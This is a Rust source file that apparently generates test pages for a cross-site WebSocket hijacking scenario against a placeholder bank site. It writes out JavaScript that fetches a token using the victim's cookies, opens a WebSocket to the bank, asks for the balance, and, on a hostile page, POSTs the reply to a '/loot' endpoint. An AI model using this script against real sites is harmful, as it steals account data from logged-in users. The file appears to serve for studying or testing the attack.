//! The page with its script: what it is as text is what [`Client`](super::client::Client) does.

use super::message::response;
use super::plan::{Credential, Plan};

/// The lines of the script.
fn lines(plan: &Plan) -> Vec<&'static str> {
    let mut lines = Vec::new();
    if plan.credential != Credential::Cookie {
        lines.push(
            "const answer = fetch(\"https://bank.example/token\", { credentials: \"include\" });",
        );
        lines.push("const token = await answer.then(it => it.text()).catch(() => \"\");");
    }
    lines.push(match plan.credential {
        Credential::Query => {
            "const socket = new WebSocket(\"wss://bank.example/account?token=\" + token);"
        }
        _ => "const socket = new WebSocket(\"wss://bank.example/account\");",
    });
    lines.push(match plan.credential {
        Credential::Message => {
            "socket.onopen = () => socket.send(\"token=\" + token + \" balance?\");"
        }
        _ => "socket.onopen = () => socket.send(\"balance?\");",
    });
    lines.push(if plan.is_own() {
        "socket.onmessage = ({ data }) => document.body.append(data);"
    } else {
        "socket.onmessage = ({ data }) => fetch(\"/loot\", { method: \"POST\", body: data });"
    });
    lines
}

/// The answer with the page.
pub(super) fn page(plan: &Plan) -> Vec<u8> {
    let body = ["<script type=\"module\">\n", &lines(plan).join("\n"), "\n</script>\n"].concat();
    response(200, "OK", &[("Content-Type", "text/html")], &body)
}
